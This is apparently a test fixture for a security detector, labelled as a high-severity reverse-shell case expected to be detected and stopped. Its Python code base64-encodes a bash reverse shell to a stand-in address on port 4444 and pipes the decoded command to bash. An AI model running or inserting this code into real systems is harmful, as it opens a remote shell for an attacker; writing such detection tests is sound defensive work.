# expect: detected
# threat: 27 reverse shell
# at: either
# family: reverse-shell
# severity: high
# decision: stopped

import base64
import os

inner = base64.b64encode(b"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'").decode()
os.system(f"echo {inner} | base64 -d | bash")
